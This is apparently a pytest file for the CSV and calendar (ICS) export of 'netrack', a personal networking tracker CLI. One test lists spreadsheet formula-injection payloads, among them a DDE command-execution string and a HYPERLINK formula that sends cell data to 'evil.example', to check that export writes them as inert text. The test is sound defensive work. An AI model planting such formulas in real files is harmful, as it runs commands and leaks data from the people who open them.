"""``netrack export --format csv|ics``: readable by Python's csv module and by icalendar."""

from __future__ import annotations

import csv
import io
import os
import subprocess
from datetime import date

import icalendar

from netrack.store import Store
from tests.conftest import python_command


def _log_some(cli) -> None:
    assert cli("give", "Dana Lee", 'sent the deck, "v2" 🎸', "--channel", "email").code == 0
    cli("meet", "Zoë Ó Briain", "coffee\nat the station", "--on", "2026-11-16")
    cli("ask", "Sam Ortiz", "intro to Priya; her team, maybe", "--due", "2026-11-27")
    assert cli("reach", "Wei Chen", "said hi", "--on", "2026-11-10T08:05").code == 0
    cli("follow-up", "Zoë", "sent my notes")  # closes the follow-up the meeting opened


def test_csv_has_one_row_per_action_and_reads_back_with_the_csv_module(cli) -> None:
    _log_some(cli)
    result = cli("export", "--format", "csv")
    assert result.code == 0, result.err
    assert "\r\n" in result.out, "RFC 4180 line ends"
    rows = list(csv.DictReader(io.StringIO(result.out, newline="")))
    assert [(r["date"], r["kind"], r["contact"], r["channel"], r["note"]) for r in rows] == [
        ("2026-11-10", "reach-out", "Wei Chen", "other", "said hi"),
        ("2026-11-16", "meet", "Zoë Ó Briain", "other", "coffee\nat the station"),
        ("2026-11-19", "give", "Dana Lee", "email", 'sent the deck, "v2" 🎸'),
        ("2026-11-19", "ask", "Sam Ortiz", "other", "intro to Priya; her team, maybe"),
        ("2026-11-19", "follow-up", "Zoë Ó Briain", "other", "sent my notes"),
    ]
    assert rows[0]["time"] == "08:05"
    assert list(rows[0]) == [
        "date",
        "time",
        "kind",
        "contact",
        "channel",
        "note",
        "personal",
        "action_id",
    ]


FORMULAS = [
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "+1+2",
    "-2+3",
    "@SUM(A1:A9)",
    "\tstarts with a tab",
    "\rstarts with a return",
]


def _csv_cells(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text(cli) -> None:
    for n, note in enumerate(FORMULAS):
        assert cli("give", "--on", f"2026-11-{n + 10:02d}", "Dana Lee", "--", note).code == 0
    assert cli("give", "=Evil Name", "plain note").code == 0
    rows = _csv_cells(cli("export", "-f", "csv").out)
    assert [r["note"] for r in rows[: len(FORMULAS)]] == ["'" + note for note in FORMULAS]
    assert (rows[-1]["contact"], rows[-1]["note"]) == ("'=Evil Name", "plain note")
    assert all(
        not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values()
    )
    raw = _csv_cells(cli("export", "-f", "csv", "--raw").out)
    assert [r["note"] for r in raw[: len(FORMULAS)]] == FORMULAS
    assert raw[-1]["contact"] == "=Evil Name"
    assert cli("export", "--raw").code == 2, "--raw is for csv"


def test_csv_of_an_empty_file_is_just_the_header(cli) -> None:
    assert cli("export", "-f", "csv").out == (
        "date,time,kind,contact,channel,note,personal,action_id\r\n"
    )


def test_csv_to_a_file_is_utf8(cli, tmp_path) -> None:
    _log_some(cli)
    target = tmp_path / "actions.csv"
    result = cli("export", "-f", "csv", "-o", str(target))
    assert result.out == f"wrote 5 actions to {target}\n"
    with open(target, encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    assert rows[2][3] == "Zoë Ó Briain"


def test_ics_holds_open_follow_ups_as_all_day_events(cli) -> None:
    _log_some(cli)
    result = cli("export", "--format", "ics")
    assert result.code == 0, result.err
    calendar = icalendar.Calendar.from_ical(result.out)
    events = calendar.walk("VEVENT")
    # The meeting's follow-up was closed by the follow-up action: only Sam's is open.
    assert [(str(e["summary"]), e["dtstart"].dt, e["dtend"].dt) for e in events] == [
        (
            "Follow up with Sam Ortiz: intro to Priya; her team, maybe",
            date(2026, 11, 27),
            date(2026, 11, 28),
        )
    ]
    assert str(events[0]["uid"]).startswith("followup-")
    assert calendar.walk("VTODO") == []


def test_ics_to_dos_carry_the_due_date(cli, store: Store) -> None:
    _log_some(cli)
    cli("meet", "Priya Nair", "lunch")  # due two days later by default
    calendar = icalendar.Calendar.from_ical(cli("export", "-f", "ics", "--todos").out)
    todos = calendar.walk("VTODO")
    assert [(t["due"].dt, str(t["summary"])) for t in todos] == [
        (date(2026, 11, 21), "Follow up after meeting: lunch (Priya Nair)"),
        (date(2026, 11, 27), "Follow up with Sam Ortiz: intro to Priya; her team, maybe"),
    ]
    assert all(str(t["status"]) == "NEEDS-ACTION" for t in todos)
    [sam_followup] = [f for f in store.load().followups if f.is_open and f.text.startswith("intro")]
    assert str(todos[1]["uid"]) == f"followup-{sam_followup.id}@netrack"


def test_export_and_import_never_import_textual(tmp_path, frozen) -> None:
    vcf = tmp_path / "one.vcf"
    vcf.write_text("BEGIN:VCARD\nVERSION:3.0\nFN:Dana Lee\nEND:VCARD\n", "utf-8")
    out = tmp_path / "export"
    probe = (
        "import sys\n"
        "from netrack.cli.main import main\n"
        f"codes = [main(['import', 'vcard', {str(vcf)!r}])]\n"
        "for fmt in ('json', 'csv', 'ics'):\n"
        f"    codes.append(main(['export', '-f', fmt, '-o', {str(out)!r} + '.' + fmt]))\n"
        "heavy = sorted(m for m in ('textual', 'rich') if m in sys.modules)\n"
        "print(codes, heavy)\n"
    )
    env = {**os.environ, "NETRACK_DB": str(tmp_path / "n.json")}
    done = subprocess.run(python_command(probe), capture_output=True, text=True, env=env)
    assert done.stdout.strip().splitlines()[-1] == "[0, 0, 0, 0] []", done.stderr


def test_to_dos_go_with_the_calendar_format_only(cli) -> None:
    result = cli("export", "--todos")
    assert result.code == 2
    assert "--todos goes with --format ics" in result.err
